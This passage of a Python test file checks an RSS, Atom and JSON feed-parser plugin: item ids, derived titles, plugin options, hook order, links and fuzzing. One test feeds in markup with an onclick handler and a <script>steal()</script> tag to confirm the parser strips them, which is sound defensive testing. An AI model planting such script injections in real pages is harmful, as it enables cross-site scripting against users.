        "<item><title>Guid</title><guid>urn:x:1</guid><description>duplicate</description></item>"
    )
    first = items_of(feed)
    again = items_of(feed)
    assert [item.id for item in first] == [item.id for item in again]
    assert len(first) == 3  # the repeated guid is one item
    assert first[0].id == stable_id("news", "urn:x:1")
    assert first[1].id == stable_id("news", "https://g.example/2")
    assert first[2].id not in {first[0].id, first[1].id}
    assert first[2].link is None


def test_title_derived_from_content_first_sentence() -> None:
    body = "Officials confirmed the agreement on Tuesday. Details follow later this week."
    (item,) = items_of(rss(f"<item><guid>d</guid><description>{body}</description></item>"))
    assert item.title == "Officials confirmed the agreement on Tuesday."
    assert item.extras["title_derived"] is True
    long_body = "word " * 80
    (item,) = items_of(rss(f"<item><guid>e</guid><description>{long_body}</description></item>"))
    assert len(item.title) <= 150 and item.title.endswith("word…")


# -- the plugin as the core sees it ------------------------------------------------------------


def parser_config(**options: Any) -> Config:
    return config_from_dict(
        {"feed": {"title": "t", "link": "http://127.0.0.1/"}, "plugins": {"feed_parser": options}},
        Path("feeds.toml"),
    )


def test_registered_hook_parses_and_reads_its_options() -> None:
    manager = pluggy.PluginManager(hookspecs.PROJECT)
    manager.add_hookspecs(hookspecs)
    manager.register(feed_parser, name="feed_parser")
    manager.check_pending()
    config = parser_config(max_entries=1, max_content_chars=50)
    manager.hook.aggregator_configure.call_historic(kwargs={"config": config})
    items = manager.hook.aggregator_parse(document=document(RSS20), source=SOURCE, config=config)
    assert len(items) == 1 and len(items[0].html) <= 50
    page = document(PAGE, "text/html")
    assert manager.hook.aggregator_parse(document=page, source=SOURCE, config=config) is None


def test_two_projects_keep_their_own_options() -> None:
    """Settings live in each project's config.stash: configuring a second project
    (another feeds.toml in the same process) leaves the first one's as they were."""
    small, default = parser_config(max_entries=1), parser_config()
    feed_parser.aggregator_configure(small)
    feed_parser.aggregator_configure(default)
    assert len(feed_parser.aggregator_parse(document(RSS20), SOURCE, small) or []) == 1
    assert len(feed_parser.aggregator_parse(document(RSS20), SOURCE, default) or []) == 2


def test_bad_option_is_a_config_error() -> None:
    config = config_from_dict(
        {
            "feed": {"title": "t", "link": "http://127.0.0.1/"},
            "plugins": {"feed_parser": {"max_entries": "many"}},
        },
        Path("feeds.toml"),
    )
    with pytest.raises(ConfigError, match="max_entries"):
        feed_parser.aggregator_configure(config)


def test_registered_before_text_parser_it_sees_feeds_first() -> None:
    """Among trylast parsers pluggy calls the one registered first first: registered before
    text_parser, this plugin gets a feed served as text/plain, and text_parser still gets
    the plain-text articles (so DEFAULT_PLUGINS must list feed_parser before text_parser)."""
    manager = pluggy.PluginManager(hookspecs.PROJECT)
    manager.add_hookspecs(hookspecs)
    manager.register(feed_parser, name="feed_parser")
    manager.register(text_parser, name="text_parser")
    config = parser_config()
    manager.hook.aggregator_configure.call_historic(kwargs={"config": config})
    served_as_text = document(RSS20, "text/plain")
    parsed = manager.hook.aggregator_parse(document=served_as_text, source=SOURCE, config=config)
    assert [item.extras["feed_title"] for item in parsed] == ["Harbour Gazette"] * 2
    article = document("India and Japan sign a pact\n\nThe text of it.\n", "text/plain")
    (item,) = manager.hook.aggregator_parse(document=article, source=SOURCE, config=config)
    assert item.title == "India and Japan sign a pact"


def test_pipeline_end_to_end(feed_project: FeedProject, monkeypatch: pytest.MonkeyPatch) -> None:
    others = [name for name in DEFAULT_PLUGINS if name != MODULE]
    builtins = (*others[: others.index(TEXT_PARSER)], MODULE, *others[others.index(TEXT_PARSER) :])
    monkeypatch.setattr(
        aggregator.app,
        "build_plugin_manager",
        functools.partial(build_plugin_manager, builtins=builtins),
    )
    feed = rss(
        """<item><title>India and Japan sign a semiconductor supply pact</title>
        <link>/2026/03/pact</link><guid isPermaLink="false">pact-1</guid>
        <pubDate>Fri, 06 Mar 2026 10:00:00 +0000</pubDate>
        <content:encoded><![CDATA[<p onclick="x()">India and Japan signed a pact on
        semiconductor supply chains in Tokyo on Friday.</p><script>steal()</script>
        <p>The Indian and Japanese ministers said the agreement covers rare earths,
        chip design and joint investment between the two countries.</p>]]></content:encoded>
        </item>"""
    )
    feed_project.add_article("gazette.txt", feed)  # the files source says text/plain
    report = feed_project.run()
    assert report.ok, report.errors
    [item] = feed_project.items()
    feed = feed_items.feed_identity(item.extras["feed_link"], item.extras["feed_title"], item.uri)
    assert feed == "feed:https://gazette.example.com/\nHarbour Gazette"
    assert item.id == stable_id("articles", feed, "pact-1")
    assert item.link == "https://gazette.example.com/2026/03/pact"
    assert item.text.startswith("India and Japan signed a pact on semiconductor supply chains")
    assert "onclick" not in item.html and "steal" not in item.html
    [entry] = feed_project.atom_entries()
    assert entry["title"] == "India and Japan sign a semiconductor supply pact"


def test_mangled_feeds_never_raise_anything_else() -> None:
    """Truncations and byte flips of real-looking feeds: items, None or a document error."""
    import random

    rng = random.Random(20260322)
    seeds = [RSS20, ATOM10, RSS10, XSS, BROKEN, json.dumps(JSON_FEED)]
    outcomes = {"items": 0, "none": 0, "error": 0}
    for seed in seeds:
        data = seed.encode("utf-8")
        for _ in range(60):
            mangled = bytearray(data[: rng.randrange(1, len(data) + 1)])
            for _ in range(rng.randrange(0, 6)):
                mangled[rng.randrange(len(mangled))] = rng.randrange(256)
            media_type = rng.choice(["application/xml", "application/feed+json", "text/html", None])
            try:
                items = parse(bytes(mangled), media_type)
            except (DocumentError, SkipDocument):
                outcomes["error"] += 1
                continue
            if items is None:
                outcomes["none"] += 1
                continue
            outcomes["items"] += 1
            for item in items:
                assert_harmless(item)
    assert outcomes["items"] > 100, outcomes


def test_a_body_is_never_copied_into_the_summary() -> None:
    """A description that is the entry's only body, or a summary equal to the content, is
    the text, not a summary of it: the summary stays empty (publishers make a teaser from
    the text), so no later stage has to recognise a copy and undo it."""
    body = "<p>India and Japan signed a pact.</p><p>It covers rare earths.</p>"
    (only_description,) = items_of(
        rss(f"<item><guid>a</guid><description>{escape(body)}</description></item>")
    )
    assert only_description.text == "India and Japan signed a pact.\n\nIt covers rare earths."
    assert only_description.summary == ""
    same = f"<![CDATA[{body}]]>"
    (both,) = items_of(
        rss(
            f"<item><guid>b</guid><description>{same}</description>"
            f"<content:encoded>{same}</content:encoded></item>"
        )
    )
    assert both.text == only_description.text and both.summary == ""
    teaser = "India and Japan sign a pact on rare earths."
    (apart,) = items_of(
        rss(
            f"<item><guid>c</guid><description>{teaser}</description>"
            f"<content:encoded>{same}</content:encoded></item>"
        )
    )
    assert apart.summary == teaser


# -- links -------------------------------------------------------------------------------

ATOM_LINKS_IN_RSS = [
    ("payment, after the link", '<link>{link}</link><atom:link rel="payment" href="{other}"/>'),
    ("related, before the link", '<atom:link rel="related" href="{other}"/><link>{link}</link>'),
    ("enclosure, after the link", '<link>{link}</link><atom:link rel="enclosure" href="{other}"/>'),
    ("no rel, before the link", '<atom:link href="{other}"/><link>{link}</link>'),
]


@pytest.mark.parametrize("links", [markup for _, markup in ATOM_LINKS_IN_RSS],
                         ids=[name for name, _ in ATOM_LINKS_IN_RSS])  # fmt: skip
def test_an_rss_item_keeps_its_link_beside_an_atom_link(links: str) -> None:
    entries = "".join(
        f"<item><title>Post {n}</title>"
        + links.format(link=f"https://gazette.example.com/{n}", other=f"https://pay.example/{n}")
        + f"<guid isPermaLink='false'>p{n}</guid><description>Text {n}.</description></item>"
        for n in range(3)
    )
    feed = rss(entries).replace("<rss ", '<rss xmlns:atom="http://www.w3.org/2005/Atom" ')
    items = items_of(feed)
    assert [item.link for item in items] == [f"https://gazette.example.com/{n}" for n in range(3)]


def test_fastfeedparser_reading_keeps_the_rss_link_beside_other_atom_links() -> None:
    entry = '<link>https://gazette.example.com/1</link><atom:link rel="payment" href="https://p/"/>'
    feed = rss(f"<item><title>Post</title>{entry}<description>Text.</description></item>")
    feed = feed.replace("<rss ", '<rss xmlns:atom="http://www.w3.org/2005/Atom" ')
    fast = parse_xml(safety.decode_feed(feed.encode()), FEED_URL, backend="fast")
    assert fast is not None
    assert [entry.link for entry in fast.entries] == ["https://gazette.example.com/1"]


def test_a_channel_atom_self_link_leaves_the_feed_to_fastfeedparser() -> None:
    self_link = '<atom:link rel="self" href="https://gazette.example.com/feed"/><link>/</link>'
    feed = rss("<item><title>Post</title><link>/1</link><description>T.</description></item>",
               channel=self_link)  # fmt: skip
    feed = feed.replace("<rss ", '<rss xmlns:atom="http://www.w3.org/2005/Atom" ')
    items = items_of(feed)
    assert [(item.link, item.extras["parser"]) for item in items] == [
        ("https://gazette.example.com/1", "fastfeedparser")
    ]


@pytest.mark.parametrize(
    "feed",
    [
        rss("<item><title><b>Ferry</b> times change</title><link>/1</link></item>"),
        '<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>t</title><entry>'
        "<title><b>Ferry</b> times change</title><link href='https://g.example/1'/></entry></feed>",
    ],
    ids=["rss title", "atom 0.3 title"],
)
def test_a_title_holding_child_elements_keeps_its_text(feed: str) -> None:
    [item] = items_of(feed, "application/xml")
    assert item.title == "Ferry times change"


def test_an_atom_title_of_a_binary_media_type_is_base64_decoded() -> None:
    feed = """<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry>
    <title type="application/octet-stream">RmVycnkgdGltZXMgY2hhbmdl</title>
    <link href="https://g.example/1"/></entry></feed>"""
    [item] = items_of(feed, "application/atom+xml")
    assert item.title == "Ferry times change"


def test_an_atom_entry_s_self_link_is_not_its_link() -> None:
    feed = """<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry>
    <title>Ferry times change</title><id>urn:uuid:1</id>
    <link rel="self" href="https://g.example/entries/1.atom"/></entry></feed>"""
    [item] = items_of(feed, "application/atom+xml")
    assert item.link is None
